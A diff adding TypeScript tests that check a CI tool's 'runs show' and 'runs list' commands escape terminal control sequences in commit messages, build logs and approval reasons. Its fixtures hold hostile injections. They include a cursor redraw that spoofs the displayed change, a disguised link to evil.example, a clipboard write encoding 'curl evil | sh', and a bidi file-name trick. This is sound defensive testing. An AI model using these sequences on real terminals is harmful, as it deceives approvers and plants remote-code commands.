@@ -1,0 +1,93 @@
+import { describeRun, runsTable } from '../../../cli/runs';
+import { resolvePlan } from '../../../shared/pipelines/plan';
+import type { RunRecord } from '../../../shared/runs/model';
+import { planRequest, sourceEvent } from '../../support/plans';
+
+/**
+ * What a change's author, its tests and its build wrote reaches an approver's terminal as text:
+ * it cannot redraw the lines `gantry runs show` prints above it, set the clipboard or hide a link.
+ */
+const ESC = '\u001b';
+const BEL = '\u0007';
+const REDRAW = `${ESC}[2A${ESC}[2K  change       "fix typo" by alice`;
+const OSC8 = `${ESC}]8;;https://evil.example/approve${BEL}the docs${ESC}]8;;${BEL}`;
+const OSC52 = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`;
+const HOSTILE = `${REDRAW}\r\n  environment  staging ${OSC8} ${OSC52} txt.\u202eexe`;
+
+/** Anything but a line break that a terminal would act on rather than show. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it finds.
+const ACTS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
+
+function hostileRun(text: string): RunRecord {
+  const plan = resolvePlan(planRequest(sourceEvent()));
+  const at = '2026-11-23T10:00:00.000Z';
+  return {
+    kind: 'run',
+    runId: plan.runId,
+    pipeline: plan.pipeline,
+    trigger: 'push',
+    repository: 'acme/widgets',
+    commit: plan.commit,
+    branch: `develop${text}`,
+    environment: 'dev',
+    lane: 'widgets/dev',
+    status: 'FAILED',
+    createdAt: at,
+    updatedAt: at,
+    endedAt: at,
+    executionArn: plan.executionArn,
+    plan: {
+      ...plan,
+      change: { ...plan.change, message: text, authorName: `Alice${text}`, authorEmail: `a${text}@example.com` },
+    },
+    stages: { gates: { status: 'failed', startedAt: at, endedAt: at, summary: text } },
+    build: { id: 'b-1', status: 'SUCCEEDED', logGroup: '/gantry/build', logStream: 's' },
+    gates: { passed: false, reasons: [`1 test failed: ${text}`], metrics: {} },
+    approval: {
+      taskToken: 't',
+      requestedAt: at,
+      deadline: at,
+      decisions: { bob: { identity: 'bob', principal: 'p', decision: 'approve', reason: text, at } },
+    },
+    failure: { stage: 'gates', error: 'Gantry.GatesFailed', reason: text },
+  };
+}
+
+const CLEAN = 'fix typo';
+
+describe('gantry runs show', () => {
+  const previous = process.env.NO_COLOR;
+  beforeAll(() => {
+    process.env.NO_COLOR = '1';
+  });
+  afterAll(() => {
+    if (previous === undefined) delete process.env.NO_COLOR;
+    else process.env.NO_COLOR = previous;
+  });
+
+  it('escapes control sequences, line breaks and bidi overrides in the change, reasons and build log', () => {
+    const shown = describeRun(hostileRun(HOSTILE), [`npm test${REDRAW}\r${OSC52}`]);
+    expect(shown).not.toMatch(ACTS);
+    // As many lines as a run with harmless words: none invented, none overwritten.
+    expect(shown.split('\n')).toHaveLength(describeRun(hostileRun(CLEAN), ['npm test']).split('\n').length);
+    const visible = String.raw`\x1b[2A\x1b[2K  change       "fix typo" by alice\r\n  environment  staging \x1b]8;;https://evil.example/approve\x07the docs\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 txt.\u202eexe`;
+    expect(shown).toContain(`  change       "${visible}" by Alice${visible} <a${visible}@example.com>`);
+    expect(shown).toContain(`Failed in gates: ${visible}`);
+    expect(shown).toContain(`  - 1 test failed: ${visible}`);
+    expect(shown).toContain(`  - bob approved at 2026-11-23 10:00:00Z: "${visible}" (p)`);
+    expect(shown).toContain(String.raw`  npm test\x1b[2A\x1b[2K  change       "fix typo" by alice\r\x1b]52;c;`);
+  });
+
+  it('keeps a build log event’s own line breaks, each line under the log’s heading', () => {
+    const shown = describeRun(hostileRun(CLEAN), ['> jest\n\tPASS test/a.test.ts\n']);
+    expect(shown).toMatch(/Build log \(last 1 lines, \/gantry\/build\):\n {2}> jest\n {10}PASS test\/a\.test\.ts$/);
+  });
+});
+
+describe('gantry runs list', () => {
+  it('escapes a branch name that would move the cursor', () => {
+    const shown = runsTable([hostileRun(HOSTILE)]);
+    expect(shown).not.toMatch(ACTS);
+    expect(shown.split('\n')).toHaveLength(2);
+  });
+});
